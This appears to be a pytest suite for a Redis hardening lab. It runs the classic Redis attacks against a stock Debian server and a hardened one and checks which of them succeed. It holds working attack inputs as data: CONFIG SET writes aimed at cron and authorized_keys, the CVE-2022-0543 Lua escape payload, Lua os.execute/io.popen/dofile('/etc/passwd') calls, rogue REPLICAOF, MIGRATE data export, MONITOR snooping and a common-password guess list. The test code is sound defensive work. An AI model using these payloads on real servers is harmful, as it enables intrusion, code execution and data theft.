"""The classic Redis attacks, each against the stock and the hardened server,
from the outsider host and from the app host.

On the stock server every attack must work (the file really appears, the
rogue server really gets the connection); on the hardened one every attack
must be refused. Where even the stock server stops an attack (Debian's
systemd sandbox, Debian's Lua build), the test asserts that actual outcome
and says so. Tests are named by the control that stops the attack.
"""

from __future__ import annotations

import base64
import shlex
import uuid

import pytest
from conftest import REDIS_PORT, ROGUE_PORT, refused

# Where Debian's stock unit lets redis-server write (ReadWritePaths and the
# ReadWriteDirectories=-/etc/redis it still carries): the classic attack
# writes a file there for real.
STOCK_WRITABLE_DIR = "/etc/redis"


def _marker() -> str:
    return f"atk-{uuid.uuid4().hex[:12]}"


def _restore_dir(attack) -> None:
    if attack.stock:
        attack.cli("CONFIG", "SET", "dir", "/var/lib/redis")
        attack.cli("CONFIG", "SET", "dbfilename", "dump.rdb")


def test_CMD_02_config_set_dir_and_save_writes_a_file(attack):
    marker = _marker()
    name = f"{marker}.conf"
    path = f"{STOCK_WRITABLE_DIR}/{name}"
    # A payload that a cron daemon or a config loader would pick up.
    attack.cli("SET", f"atk:{marker}", f"\n\n* * * * * root echo {marker}\n\n")
    try:
        replies = [
            attack.cli("CONFIG", "SET", "dir", STOCK_WRITABLE_DIR),
            attack.cli("CONFIG", "SET", "dbfilename", name),
            attack.cli("SAVE"),
        ]
        written = attack.server.host.run(f"grep -c {marker} {path}").rc == 0
    finally:
        _restore_dir(attack)
        attack.server.host.run(f"rm -f {shlex.quote(path)}")
        attack.cli("DEL", f"atk:{marker}")
    if attack.stock:
        assert replies == ["OK", "OK", "OK"], replies
        assert written, f"{path} did not appear on the stock server"
    else:
        assert all(refused(r) for r in replies[:2]), replies
        assert not written
        assert attack.admin("CONFIG", "GET", "dir").splitlines()[1] == "/var/lib/redis"


@pytest.mark.parametrize(
    ("target", "dbfilename"),
    [("/etc/cron.d", "redis-cron"), ("/root/.ssh", "authorized_keys")],
    ids=["cron", "authorized_keys"],
)
def test_CMD_02_config_set_dir_to_cron_or_ssh(attack, target, dbfilename):
    """The textbook targets. Debian's stock unit already blocks them
    (ProtectSystem=strict keeps /etc/cron.d read-only, ProtectHome hides
    /root), so on stock Redis accepts the commands and the sandbox stops
    the write; the hardened server refuses the commands themselves."""
    attack.server.host.run(f"mkdir -p {target}")
    try:
        set_dir = attack.cli("CONFIG", "SET", "dir", target)
        set_name = attack.cli("CONFIG", "SET", "dbfilename", dbfilename)
        save = attack.cli("SAVE")
    finally:
        _restore_dir(attack)
    appeared = attack.server.host.file(f"{target}/{dbfilename}").exists
    assert not appeared
    if attack.stock:
        assert set_name == "OK", set_name
        # /root is invisible to the service: even chdir fails. /etc/cron.d
        # is visible but read-only: chdir works, SAVE fails.
        if target == "/root/.ssh":
            assert set_dir.startswith("ERR"), set_dir
        else:
            assert set_dir == "OK" and save.startswith("ERR"), (set_dir, save)
    else:
        assert refused(set_dir) and refused(set_name), (set_dir, set_name)


def test_CMD_02_replicaof_connects_to_a_rogue_server(attack, rogue, vantages):
    rogue.clear()
    reply = attack.cli("REPLICAOF", vantages["outsider"].address, str(ROGUE_PORT))
    try:
        seen = rogue.seen(wait=10 if attack.stock else 3)
    finally:
        if attack.stock:
            attack.cli("REPLICAOF", "NO", "ONE")
    if attack.stock:
        assert reply == "OK", reply
        assert attack.server.address in seen and "PING" in seen, seen
    else:
        assert refused(reply), reply
        assert seen == ""
        assert "role:master" in attack.admin("INFO", "replication")


def test_CMD_02_module_load(attack):
    # No Redis module ships with Debian; loading a library that is not one
    # still shows whether the server lets the command run at all.
    reply = attack.cli("MODULE", "LOAD", "/lib/x86_64-linux-gnu/libc.so.6")
    if attack.stock:
        assert "Error loading the extension" in reply, reply
    else:
        assert refused(reply), reply


def test_CMD_02_debug(attack):
    reply = attack.cli("DEBUG", "SLEEP", "0")
    if attack.stock:
        assert reply == "OK", reply
    else:
        assert refused(reply), reply


LUA_ESCAPE = (
    'local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", '
    '"luaopen_io"); local io = io_l(); local f = io.popen("id", "r"); '
    'local res = f:read("*a"); f:close(); return res'
)


def test_PATCH_01_debian_lua_escape_CVE_2022_0543(attack):
    """Debian 12's redis was never affected: `package` is not reachable
    from scripts, on the stock server too."""
    reply = attack.cli("EVAL", LUA_ESCAPE, "0")
    assert "uid=" not in reply
    if not attack.stock:
        # No user at all, or the sidekiq profile, which has EVALSHA only.
        assert refused(reply), reply
    else:
        assert "package" in reply and "ERR" in reply, reply


@pytest.mark.parametrize(
    "script",
    [
        "return os.execute('id')",
        "return io.popen('id'):read('*a')",
        "return require('os').execute('id')",
        "return dofile('/etc/passwd')",
    ],
    ids=["os.execute", "io.popen", "require", "dofile"],
)
def test_PATCH_01_eval_of_dangerous_lua_calls(attack, script):
    reply = attack.cli("EVAL", script, "0")
    assert "uid=" not in reply and "root:x:0" not in reply
    if not attack.stock:
        # No user at all, or the sidekiq profile, which has EVALSHA only.
        assert refused(reply), reply
    else:
        # Redis's Lua sandbox removes these functions on both servers.
        assert "ERR" in reply, reply


def test_CMD_01_config_get_reveals_secrets(attack):
    reply = attack.cli("CONFIG", "GET", "masterauth")
    secret = attack.server.variables.get("lab_stock_masterauth")
    if attack.stock:
        assert secret and secret in reply, "the stock server has no masterauth"
    else:
        assert refused(reply), reply
        assert attack.server.admin[1] not in reply


def test_CMD_01_keys_lists_every_key(attack):
    marker = _marker()
    seed = attack.admin if not attack.stock else attack.cli
    seed("SET", f"atk:{marker}", "secret-value")
    try:
        reply = attack.cli("KEYS", "*")
    finally:
        seed("DEL", f"atk:{marker}")
    if attack.stock:
        assert f"atk:{marker}" in reply
    else:
        assert refused(reply), reply


def test_AUTH_03_scan_and_dump_export_values(attack):
    marker = _marker()
    seed = attack.admin if not attack.stock else attack.cli
    seed("SET", f"atk:{marker}", f"value-{marker}")
    try:
        scan = attack.cli("SCAN", "0", "MATCH", f"atk:{marker}", "COUNT", "10000")
        # DUMP replies in binary: carried back as base64.
        dump = base64.b64decode(
            attack.cli("DUMP", f"atk:{marker}", pipe="base64 -w0")
        ).decode("latin-1")
    finally:
        seed("DEL", f"atk:{marker}")
    if attack.stock:
        assert f"atk:{marker}" in scan and f"value-{marker}" in dump
        return
    # CMD-01 leaves SCAN and DUMP alone. The app user's sidekiq profile
    # (AUTH-03) keeps SCAN, which Sidekiq's API uses for key names, but has
    # no DUMP, so no value leaves; the outsider has no user at all.
    assert refused(dump), (scan, dump)
    if attack.user is None:
        assert refused(scan), scan


def test_CMD_01_migrate_to_a_lab_host(attack, migrate_sink, vantages):
    marker = _marker()
    seed = attack.admin if not attack.stock else attack.cli
    seed("SET", f"atk:{marker}", "exported")
    migrate_sink.clear()
    try:
        reply = attack.cli(
            "MIGRATE",
            vantages["app"].address,
            str(migrate_sink.port),
            f"atk:{marker}",
            "0",
            "2000",
            "COPY",
        )
        seen = migrate_sink.seen(wait=5 if attack.stock else 2)
    finally:
        seed("DEL", f"atk:{marker}")
    if attack.stock:
        # The sink answers with an error, so MIGRATE fails after sending.
        assert "RESTORE" in seen and marker in seen, (reply, seen)
    else:
        assert refused(reply), reply
        assert seen == ""


def _start_victim(attack, marker: str) -> None:
    """A client blocked in BLPOP on the server host, over loopback."""
    auth = ""
    user = ""
    if attack.server.admin:
        auth = f"REDISCLI_AUTH={shlex.quote(attack.server.admin[1])} "
        user = f"--user {attack.server.admin[0]} "
    attack.server.host.run(
        f"systemd-run --unit=victim-{marker} --collect sh -c "
        + shlex.quote(
            f"{auth}timeout 20 redis-cli --no-auth-warning {user}"
            f"-h 127.0.0.1 -p {REDIS_PORT} BLPOP atk:never-{marker} 15"
        )
    )
    for _ in range(20):
        if "cmd=blpop" in attack.admin("CLIENT", "LIST"):
            return
        attack.server.host.run("sleep 0.25")
    pytest.fail("the victim client did not connect")


def test_AUTH_03_client_kill(attack):
    marker = _marker()
    _start_victim(attack, marker)
    try:
        reply = attack.cli("CLIENT", "KILL", "TYPE", "normal", "SKIPME", "yes")
        victim_alive = "cmd=blpop" in attack.admin("CLIENT", "LIST")
    finally:
        attack.server.host.run(f"systemctl stop victim-{marker} 2>/dev/null; true")
    if attack.stock:
        assert reply.isdigit() and int(reply) >= 1, reply
        assert not victim_alive
        return
    # Sidekiq needs CLIENT SETNAME, so CMD-01 cannot deny CLIENT; the sidekiq
    # profile (AUTH-03) allows only the subcommands it uses.
    assert refused(reply), reply
    assert victim_alive


def test_CMD_01_monitor_sees_other_clients_commands(attack):
    marker = _marker()
    out = f"/root/monitor-{marker}.out"
    vantage = attack.vantage.host
    auth = ""
    user = ""
    if attack.user:
        auth = f"REDISCLI_AUTH={shlex.quote(attack.user[1])} "
        user = f"--user {attack.user[0]} "
    vantage.run(
        f"systemd-run --unit=monitor-{marker} --collect sh -c "
        + shlex.quote(
            f"{auth}timeout 5 redis-cli --no-auth-warning {user}"
            f"-h {attack.server.address} -p {REDIS_PORT} MONITOR > {out} 2>&1"
        )
    )
    vantage.run("sleep 1.5")
    # Another client's command, sent on the server host.
    attack.admin("SET", f"atk:{marker}", "watched")
    attack.admin("DEL", f"atk:{marker}")
    vantage.run("sleep 4")
    seen = vantage.run(f"cat {out}").stdout
    if attack.stock:
        assert f"atk:{marker}" in seen, seen
    else:
        assert f"atk:{marker}" not in seen
        assert refused(seen), seen


GUESSES = [
    "", "redis", "password", "123456", "admin", "root", "foobared", "secret",
    "changeme", "qwerty", "letmein", "12345678", "sidekiq", "redis123",
    "P@ssw0rd", "default", "test",
]  # fmt: skip


def test_AUTH_01_password_guessing(attack):
    users = ["default", "admin", "sidekiq"]
    lines = [f"AUTH {u} {g or 'x'}" for u in users for g in GUESSES] + ["PING"]
    replies = redis_session(attack, lines)
    assert len(lines) == 52  # 51 guesses, then a command to see if any worked
    if attack.stock:
        # Nothing to guess: the stock server answers without any password.
        assert replies[-1] == "PONG", replies[-3:]
        return
    assert len(replies) == len(lines), replies
    assert all(r.startswith("WRONGPASS") for r in replies[:-1]), set(replies)
    assert replies[-1].startswith("NOAUTH")
    log = attack.admin("ACL", "LOG", "60")
    assert "auth" in log and attack.vantage.address in log


def redis_session(attack, lines: list[str]) -> list[str]:
    """Send several commands over one unauthenticated connection."""
    from conftest import redis_cli

    text = redis_cli(
        attack.vantage.host,
        address=attack.server.address,
        stdin="\n".join(lines) + "\n",
        timeout=30,
    )
    return [line for line in text.splitlines() if line.strip()]
